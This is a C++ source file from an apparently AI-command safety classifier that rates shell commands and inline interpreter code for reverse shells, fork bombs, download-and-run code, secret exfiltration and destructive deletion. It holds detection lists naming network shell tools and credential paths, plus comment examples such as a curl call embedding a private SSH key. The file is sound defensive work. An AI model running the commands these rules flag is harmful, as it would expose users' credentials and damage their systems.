// SPDX-License-Identifier: MIT
// Rules for code reaching an interpreter by any road, and for data leaving
// the machine: inline Python/Node/Ruby/Perl/PHP/Lua/R code rated by what it
// targets (it is translated into the shell commands it amounts to, and those
// are rated), code fed on standard input (here-documents, here-strings,
// process substitution, pipes into `at`/`crontab`), packages fetched and run
// in one step, scripts downloaded and then run, and secrets sent to the
// network.
#include <cstring>
#include <string_view>

#include "common/split.h"
#include "safety/rule_util.h"

namespace cmdai::safety::detail {
namespace {

std::string Quote(const std::string& s) {
  if (s == "~") return "~";  // the home directory, as the program means it
  if (s.rfind("~/", 0) == 0) return "~/" + Quote(s.substr(2));
  std::string out = "'";
  for (char ch : s) out += ch == '\'' ? std::string("'\\''") : std::string(1, ch);
  return out + "'";
}

bool IsSpace(char ch) { return ch == ' ' || ch == '\t' || ch == '\n'; }

// Reads a string literal at s[i] ('…', "…", `…`); advances i past it.
bool ReadLiteral(const std::string& s, size_t& i, std::string* out) {
  if (i >= s.size() || (s[i] != '"' && s[i] != '\'' && s[i] != '`')) return false;
  const char q = s[i++];
  out->clear();
  while (i < s.size() && s[i] != q) {
    if (s[i] == '\\' && i + 1 < s.size()) {
      const char e = s[++i];
      *out += e == 'n' ? '\n' : e;
      ++i;
      continue;
    }
    *out += s[i++];
  }
  if (i >= s.size()) return false;
  ++i;
  return true;
}

// The first argument of a call at s[i] (just after the opening parenthesis):
// a string literal, a list of them (joined by spaces), or the home directory
// in its usual spellings. Empty when it is computed at run time.
std::string FirstArgument(const std::string& s, size_t i, bool* dynamic) {
  while (i < s.size() && IsSpace(s[i])) ++i;
  std::string lit;
  if (ReadLiteral(s, i, &lit)) return lit;
  if (i < s.size() && s[i] == '[') {  // ["rm", "-rf", "/"]
    ++i;
    std::string joined;
    while (i < s.size()) {
      while (i < s.size() && (IsSpace(s[i]) || s[i] == ',')) ++i;
      if (i < s.size() && s[i] == ']') return joined;
      if (!ReadLiteral(s, i, &lit)) break;
      joined += (joined.empty() ? "" : " ") + Quote(lit);
    }
    *dynamic = true;
    return "";
  }
  const std::string rest = s.substr(i, 64);
  for (const char* home :
       {"os.path.expanduser(\"~\")", "os.path.expanduser('~')", "os.environ[\"HOME\"]", "os.environ['HOME']",
        "os.getenv(\"HOME\")", "os.getenv('HOME')", "Path.home()", "pathlib.Path.home()", "process.env.HOME",
        "os.homedir()", "ENV[\"HOME\"]", "ENV['HOME']", "$ENV{HOME}", "Dir.home", "path.expand(\"~\")",
        "require(\"os\").homedir()", "require('os').homedir()", "Deno.env.get(\"HOME\")", "homedir"})
    if (rest.rfind(home, 0) == 0) return "~";
  for (const char* ctor : {"Path(", "pathlib.Path(", "new File("}) {
    if (rest.rfind(ctor, 0) == 0) {
      size_t k = i + std::strlen(ctor);
      while (k < s.size() && IsSpace(s[k])) ++k;
      if (ReadLiteral(s, k, &lit)) return lit;
    }
  }
  *dynamic = true;
  return "";
}

struct Call {
  const char* name;  // as written in the code, with the opening parenthesis
  enum { kShell, kShellWords, kDeleteTree, kDeleteFile, kWrite } kind;
};

// What interpreter calls amount to in shell terms.
constexpr Call kCalls[] = {
    {"os.system(", Call::kShell},
    {"os.popen(", Call::kShell},
    {"subprocess.run(", Call::kShell},
    {"subprocess.call(", Call::kShell},
    {"subprocess.check_call(", Call::kShell},
    {"subprocess.check_output(", Call::kShell},
    {"subprocess.Popen(", Call::kShell},
    {"subprocess.getoutput(", Call::kShell},
    {"commands.getoutput(", Call::kShell},
    {"pty.spawn(", Call::kShell},
    {"execSync(", Call::kShell},
    {"exec(", Call::kShell},
    {"execFileSync(", Call::kShellWords},
    {"spawnSync(", Call::kShellWords},
    {"spawn(", Call::kShellWords},
    {"system(", Call::kShell},
    {"system ", Call::kShell},
    {"shell_exec(", Call::kShell},
    {"passthru(", Call::kShell},
    {"popen(", Call::kShell},
    {"proc_open(", Call::kShell},
    {"os.execute(", Call::kShell},
    {"io.popen(", Call::kShell},
    {"%x(", Call::kShell},
    {"qx(", Call::kShell},
    {"IO.popen(", Call::kShell},
    {"Open3.capture2(", Call::kShell},
    {"do shell script ", Call::kShell},
    {"shutil.rmtree(", Call::kDeleteTree},
    {"rmtree(", Call::kDeleteTree},
    {"remove_tree(", Call::kDeleteTree},
    {"rm_rf(", Call::kDeleteTree},
    {"rm_r(", Call::kDeleteTree},
    {"remove_dir(", Call::kDeleteTree},
    {"rmSync(", Call::kDeleteTree},
    {"rmdirSync(", Call::kDeleteTree},
    {"removeSync(", Call::kDeleteTree},
    {"Deno.remove(", Call::kDeleteTree},
    {"fs.rm(", Call::kDeleteTree},
    {"fs.rmdir(", Call::kDeleteTree},
    {"os.remove(", Call::kDeleteFile},
    {"os.unlink(", Call::kDeleteFile},
    {"os.rmdir(", Call::kDeleteFile},
    {"unlinkSync(", Call::kDeleteFile},
    {"File.delete(", Call::kDeleteFile},
    {"unlink(", Call::kDeleteFile},
    {"rmdir(", Call::kDeleteFile},
    {"FileUtils.rm(", Call::kDeleteFile},
    {"open(", Call::kWrite},
    {"writeFileSync(", Call::kWrite},
    {"File.write(", Call::kWrite},
};

// Whether the call at s[p] writes: open(P, "w"), open(F, ">P").
bool OpensForWriting(const std::string& s, size_t args) {
  const size_t close = s.find(')', args);
  const std::string inside = s.substr(args, close == std::string::npos ? 200 : close - args);
  for (const char* m : {"\"w", "'w", "\"a", "'a", "\"x", "'x", "\"r+", "'r+", "\">", "'>", "O_WRONLY", "O_RDWR"})
    if (inside.find(m) != std::string::npos) return true;
  return false;
}

// Translates inline interpreter code into the shell commands it amounts to,
// for the classifier to rate. Returns whether any call was understood.
bool TranslateCode(RuleInput& in, const std::string& code, bool* writes_only) {
  bool any = false, other = false;
  std::string shell;
  for (const Call& call : kCalls) {
    const std::string name = call.name;
    for (size_t p = code.find(name); p != std::string::npos; p = code.find(name, p + 1)) {
      if (p > 0 && (std::isalnum(static_cast<unsigned char>(code[p - 1])) || code[p - 1] == '_') &&
          name.find('.') == std::string::npos && name != "spawn(" && name != "exec(")
        continue;  // part of a longer name
      bool dynamic = false;
      size_t args = p + name.size();
      std::string arg = FirstArgument(code, args, &dynamic);
      if (call.kind == Call::kWrite) {
        if (dynamic || !OpensForWriting(code, args)) continue;
        if (!arg.empty() && arg[0] == '>') arg = arg.substr(arg.find_first_not_of(">+"));
        shell += ": > " + Quote(arg) + "\n";
        any = true;
        continue;
      } else if (dynamic) {
        if (call.kind != Call::kWrite) any = true;  // computed at run time: the inline-code finding covers it
        continue;
      } else if (call.kind == Call::kShell) {
        shell += arg + "\n";
      } else if (call.kind == Call::kShellWords) {
        // spawnSync("rm", ["-rf", "/"]): the program, then its arguments.
        size_t k = args;
        std::string lit;
        while (k < code.size() && IsSpace(code[k])) ++k;
        if (ReadLiteral(code, k, &lit)) {
          while (k < code.size() && (IsSpace(code[k]) || code[k] == ',')) ++k;
          bool more_dynamic = false;
          std::string rest = code[k] == '[' ? FirstArgument(code, k, &more_dynamic) : "";
          shell += Quote(lit) + " " + rest + "\n";
        } else {
          shell += arg + "\n";
        }
      } else if (call.kind == Call::kDeleteTree) {
        const std::string after = code.substr(args, 120);
        const bool recursive = (name != "rmSync(" && name != "fs.rm(" && name != "fs.rmdir(" && name != "rmdirSync(" &&
                                name != "removeSync(" && name != "Deno.remove(") ||
                               after.find("recursive") != std::string::npos;
        shell += std::string(recursive ? "rm -r -f -- " : "rm -f -- ") + Quote(arg) + "\n";
      } else {
        const bool recursive = code.substr(args, 120).find("recursive") != std::string::npos;
        shell += std::string(recursive ? "rm -r -f -- " : "rm -f -- ") + Quote(arg) + "\n";
      }
      any = true;
      other = true;
    }
  }
  // Backticks in Ruby, Perl and PHP run shell commands.
  for (size_t p = code.find('`'); p != std::string::npos;) {
    const size_t e = code.find('`', p + 1);
    if (e == std::string::npos) break;
    shell += code.substr(p + 1, e - p - 1) + "\n";
    any = other = true;
    p = code.find('`', e + 1);
  }
  // pathlib: Path("/").rglob("*") … .unlink(): every file under that root.
  if (code.find(".unlink()") != std::string::npos || code.find(".rmdir()") != std::string::npos) {
    for (const char* ctor : {"Path(\"", "Path('"}) {
      const size_t p = code.find(ctor);
      if (p == std::string::npos) continue;
      bool dynamic = false;
      const std::string root = FirstArgument(code, p + 5, &dynamic);
      if (!dynamic)
        shell += (code.find("rglob") != std::string::npos ? "rm -r -f -- " : "rm -f -- ") + Quote(root) + "\n";
      any = other = true;
    }
  }
  if (!shell.empty() && in.code) in.code->push_back({shell, in.cmd.start, in.cmd.end});
  *writes_only = any && !other;
  return any;
}

bool Has(const std::string& hay, std::initializer_list<const char*> needles) {
  for (const char* n : needles)
    if (hay.find(n) != std::string::npos) return true;
  return false;
}

}  // namespace

bool IsCodeInterpreter(const std::string& n) {
  return n.rfind("python", 0) == 0 || n.rfind("pypy", 0) == 0 || n == "node" || n == "nodejs" || n == "deno" ||
         n == "bun" || n == "ruby" || n == "perl" || n == "php" || n == "lua" || n == "luajit" || n == "Rscript" ||
         n == "R" || n == "tclsh" || n == "osascript" || n == "pwsh";
}

void InterpreterCode(RuleInput& in, const std::string& code, const std::string& where) {
  const SimpleCommand& c = in.cmd;
  const std::string lower = Lower(code);
  const bool socket = Has(lower, {"socket", "tcpsocket", "net.connect", "io::socket", "fsockopen", "/dev/tcp"});
  const bool spawn = Has(lower, {"subprocess", "pty.spawn", "os.dup2", "/bin/sh", "/bin/bash", "exec(", "system(",
                                 "popen", "child_process", "spawn(", "cmd.exe", "proc_open"});
  if (socket && spawn) {
    Add(in, "net.reverse-shell", Risk::kCritical, c.name + " code connects a shell to the network (a reverse shell)");
    return;
  }
  const bool loops = Has(lower, {"while", "loop", "for(;;)", "for (;;)", "until"});
  if (Has(lower, {"fork while fork", "while(1){fork", "while 1: os.fork", "fork() while", "while true; do fork"}) ||
      (loops && Has(lower, {"fork", "os.fork", "process.fork"}))) {
    Add(in, "process.fork-bomb", Risk::kCritical, c.name + " code forks without end (a fork bomb)");
    return;
  }
  const bool runs = Has(lower, {"exec(", "eval(", "eval ", "compile(", "iex", "invoke-expression", "system(",
                                "execsync(", "instance_eval", "function("});
  if (runs && Has(lower, {"urlopen", "requests.get", "urllib", "fetch(", "http.get", "net::http", "lwp::", "curl",
                          "downloadstring", "invoke-webrequest", "iwr ", "net.webclient", "wget"})) {
    Add(in, "exec.remote-code", Risk::kCritical, c.name + " code downloads code and runs it");
    return;
  }
  if (runs && Has(lower, {"b64decode", "base64", "decode(", "fromcharcode", "unhexlify", "codecs.decode", "zlib",
                          "atob(", "frombase64string", "buffer.from("})) {
    Add(in, "exec.decoded-code", Risk::kCritical, c.name + " code decodes hidden code and runs it");
    return;
  }
  if (IsHarmlessInlineCode(c.name, code)) return;  // print(2+2): it only computes
  bool writes_only = false;
  const bool translated = TranslateCode(in, code, &writes_only);
  if (writes_only && !Has(lower, {"system", "subprocess", "exec", "eval", "popen", "`"})) {
    Add(in, "exec.inline-code", Risk::kModerate, c.name + " code " + where + " writes files");
    return;
  }
  if (translated || Has(lower, {"rmtree",        "os.remove",  "os.unlink",   "unlink(",  "rm_rf",       "rm -rf",
                                "fs.rm",         "rmdirsync",  "file.delete", "os.rmdir", "shutil.move", "truncate(",
                                "os.system",     "subprocess", "system(",     "exec(",    "eval(",       "popen",
                                "child_process", "`",          "os.execute"})) {
    Add(in, "exec.inline-code", Risk::kHigh, c.name + " code " + where + " deletes files or runs other programs");
    return;
  }
  if (Has(lower, {"urlopen", "requests.", "urllib", "http.client", "socket", "fetch(", "net::http"}) &&
      Has(lower, {"open(", "read(", "environ", "expanduser", ".ssh", ".aws"})) {
    Add(in, "net.exfiltrate", Risk::kHigh, c.name + " code reads local data and sends it over the network");
    return;
  }
  Add(in, "exec.inline-code", Risk::kModerate, "runs " + c.name + " code " + where);
}

void CodeRules(RuleInput& in) {
  const SimpleCommand& c = in.cmd;
  const std::string& n = c.name;
  const ParsedScript& s = in.script;

  // npx, uvx, pipx run, pnpm dlx, bunx: fetch a package and run it at once.
  const std::string sub = c.args.empty() ? "" : c.args[0].text;
  if (n == "npx" || n == "uvx" || n == "bunx" || n == "pnpx" || (n == "pipx" && sub == "run") ||
      ((n == "pnpm" || n == "yarn") && sub == "dlx") || (n == "npm" && (sub == "exec" || sub == "x")) ||
      (n == "uv" && sub == "tool" && c.args.size() > 1 && c.args[1].text == "run")) {
    if (!OnlyAsksForHelp(c))
      Add(in, "exec.fetched-package", Risk::kHigh,
          n + " downloads a package and runs its code in one step, without review");
    return;
  }
  // Installs from a URL or a repository rather than the registry.
  if ((n == "pip" || n == "pip3" || n == "npm" || n == "pnpm" || n == "yarn" || n == "cargo" || n == "gem" ||
       n == "go" || n == "uv") &&
      Any(sub, {"install", "i", "add"}))
    for (const auto& w : c.args)
      if (w.text.find("://") != std::string::npos || w.text.rfind("git+", 0) == 0 || w.text == "--git" ||
          w.text.rfind("github:", 0) == 0) {
        Add(in, "pkg.from-url", Risk::kHigh, n + " installs code straight from " + w.text + ", bypassing the registry",
            w.start, w.end);
        return;
      }

  // deno run https://…, bun run https://…: code fetched and run at once.
  if ((n == "deno" || n == "bun") && !c.args.empty())
    for (const auto& w : c.args)
      if (w.text.find("://") != std::string::npos) {
        Add(in, "exec.remote-code", Risk::kCritical, n + " runs code straight from " + w.text, w.start, w.end);
        return;
      }
  // make -f /dev/stdin <<< 'all:\n\tCMD': the recipes are shell code.
  if ((n == "make" || n == "gmake") && !c.stdin_text.empty() && in.code)
    for (size_t i = 0; i + 1 < c.args.size(); ++i)
      if (c.args[i].text == "-f" && (c.args[i + 1].text == "-" || c.args[i + 1].text == "/dev/stdin")) {
        std::string recipes;
        for (std::string_view line : Split(c.stdin_text, '\n'))
          if (!line.empty() && line[0] == '\t') {
            recipes += line.substr(1);
            recipes += '\n';
          }
        if (!recipes.empty()) in.code->push_back({recipes, c.start, c.end});
      }
  // python -m http.server: serves a directory to the network.
  if (n.rfind("python", 0) == 0 && HasArg(c, "-m") && (HasArg(c, "http.server") || HasArg(c, "SimpleHTTPServer"))) {
    std::string dir = c.cwd;
    for (size_t i = 0; i + 1 < c.args.size(); ++i)
      if (c.args[i].text == "--directory" || c.args[i].text == "-d") dir = c.args[i + 1].text;
    PathKind k = ClassifyPath(dir.empty() ? "." : dir, false, "").kind;
    const bool broad = k == PathKind::kHome || k == PathKind::kRoot || k == PathKind::kSecret ||
                       k == PathKind::kSystemDir || dir == "~";
    Add(in, "net.listener", broad ? Risk::kHigh : Risk::kModerate,
        broad ? "serves " + dir + " to anyone who can reach this machine" : "serves files over the network");
    return;
  }
  // Interpreter code on standard input: here-documents, here-strings, `<(…)`.
  if (IsCodeInterpreter(n) && !c.stdin_text.empty()) {
    bool script_operand = false;
    for (const auto& w : c.args) script_operand |= !w.text.empty() && w.text[0] != '-';
    if (!script_operand) InterpreterCode(in, c.stdin_text, "from its input");
  }
  if (IsCodeInterpreter(n) || IsShellName(n) || n == "source" || n == ".")
    for (const auto& w : c.args)
      for (int g : w.substitutions)
        for (const auto& other : s.commands)
          if (other.group == g && (other.name == "echo" || other.name == "printf") && !other.args.empty()) {
            std::string text;
            for (const auto& a : other.args)
              if (a.text.empty() || a.text[0] != '-') text += (text.empty() ? "" : " ") + a.text;
            if ((IsShellName(n) || n == "source" || n == ".") && in.code)
              in.code->push_back({text, c.start, c.end});
            else
              InterpreterCode(in, text, "from a process substitution");
          }
}

// Secrets flowing to a program that sends data over the network.
bool IsNetworkSender(const SimpleCommand& c) {
  const std::string& n = c.name;
  if (n == "nc" || n == "ncat" || n == "netcat" || n == "socat" || n == "telnet" || n == "mail" || n == "mailx" ||
      n == "sendmail" || n == "mutt")
    return true;
  if (n == "curl") {
    for (const auto& w : c.args)
      if (Any(w.text, {"-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "-F", "--form", "-T",
                       "--upload-file", "--json"}) ||
          w.text.rfind("--data", 0) == 0 || w.text.find("@-") != std::string::npos)
        return true;
    return false;
  }
  if (n == "wget") return HasArg(c, "--post-file") || HasArg(c, "--body-file");
  if (n == "ssh") return true;
  if (n == "openssl") return HasArg(c, "s_client");
  if (n == "gh")
    return c.args.size() >= 2 && ((c.args[0].text == "gist" && c.args[1].text == "create") ||
                                  (c.args[0].text == "secret" && c.args[1].text == "set"));
  return false;
}

bool ReadsSecret(const SimpleCommand& c) {
  if (c.name == "env" || c.name == "printenv" || c.name == "set" || c.name == "export")
    return c.args.empty() || c.name == "printenv";
  for (const auto& r : c.redirects)
    if (r.op == "<") {
      PathKind k = ClassifyPath(r.target.text, r.target.dynamic, c.cwd).kind;
      if (k == PathKind::kSecret || k == PathKind::kCriticalFile || k == PathKind::kHistory) return true;
    }
  if (c.name == "echo" || c.name == "printf") return false;
  for (const auto& w : c.args) {
    PathKind k = ClassifyPath(w.text, w.dynamic, c.cwd).kind;
    if (k == PathKind::kSecret || k == PathKind::kHistory ||
        (k == PathKind::kCriticalFile &&
         (w.text.find("shadow") != std::string::npos || w.text.find("sudoers") != std::string::npos)))
      return true;
  }
  return false;
}

void ExfiltrationRules(RuleInput& in) {
  const SimpleCommand& c = in.cmd;
  const ParsedScript& s = in.script;
  bool sends = IsNetworkSender(c);
  const bool network_tool = sends || c.name == "curl" || c.name == "wget" || c.name == "dig" || c.name == "host" ||
                            c.name == "nslookup" || c.name == "ping" || c.name == "http" || c.name == "xh" ||
                            c.name == "drill" || c.name == "getent" || c.name == "traceroute" ||
                            c.name == "resolvectl" || c.name == "ping6" || c.name == "kdig" || c.name == "delv";
  // Copies of secrets to another host or a cloud bucket.
  const bool copies_out = c.name == "scp" || c.name == "rsync" || c.name == "sftp" ||
                          ((c.name == "aws" || c.name == "gsutil" || c.name == "rclone") && HasArg(c, "cp"));
  if (!network_tool && !copies_out) return;
  std::string what;
  if ((sends || copies_out) && ReadsSecret(c)) what = "credentials it reads";
  for (const auto& w : c.args)  // curl "https://x/?k=$(cat ~/.ssh/id_rsa)"
    for (int g : w.substitutions)
      for (const auto& other : s.commands)
        if (other.group == g && ReadsSecret(other)) what = "credentials read by " + other.name;
  // Secret-looking variables or identity in the URL, host name or headers.
  for (const auto& w : c.args) {
    if (!w.dynamic || !network_tool) continue;
    for (const char* secret :
         {"TOKEN", "SECRET", "PASSWORD", "PASSWD", "API_KEY", "ACCESS_KEY", "PRIVATE", "CREDENTIAL"})
      if (w.text.find(secret) != std::string::npos) what = "a secret held in " + w.text;
  }
  for (const auto& w : c.args)
    for (int g : w.substitutions)
      for (const auto& other : s.commands)
        if (network_tool && c.name != "curl" && c.name != "wget" && other.group == g &&
            Any(other.name, {"whoami", "id", "hostname", "uname", "env", "printenv", "cat", "base64"}))
          what = "the output of " + other.name + " (in a name looked up over the network)";
  // A variable filled from a secret earlier in the line: k=$(cat ~/.ssh/id_rsa); curl …/$k
  bool secret_var = false;
  for (const auto& other : s.commands)
    if (other.group != 0 && other.group != c.group && ReadsSecret(other)) secret_var = true;
  if (secret_var && network_tool)
    for (const auto& w : c.args)
      if (w.dynamic && w.substitutions.empty()) what = "credentials read earlier in the command line";
  if (network_tool && c.pipeline >= 0 && c.pipeline_pos > 0)
    for (const auto& other : s.commands)
      if (other.pipeline == c.pipeline && other.group == c.group && other.pipeline_pos < c.pipeline_pos &&
          ReadsSecret(other))
        what = "credentials or the environment read by " + other.name;
  if (!what.empty()) Add(in, "net.exfiltrate", Risk::kHigh, c.name + " sends " + what + " to another machine");
}

// Deleting things that live on a forge (GitHub, GitLab).
void ForgeRules(RuleInput& in) {
  const SimpleCommand& c = in.cmd;
  if ((c.name != "gh" && c.name != "glab") || c.args.size() < 2) return;
  const std::string& verb = c.args[1].text;
  if (Any(verb, {"delete", "delete-asset", "archive", "transfer"}) || (c.args[0].text == "api" && HasArg(c, "DELETE")))
    Add(in, "forge.delete", Risk::kHigh,
        c.name + " " + c.args[0].text + " " + verb + " deletes it on the server for everyone");
}

}  // namespace cmdai::safety::detail
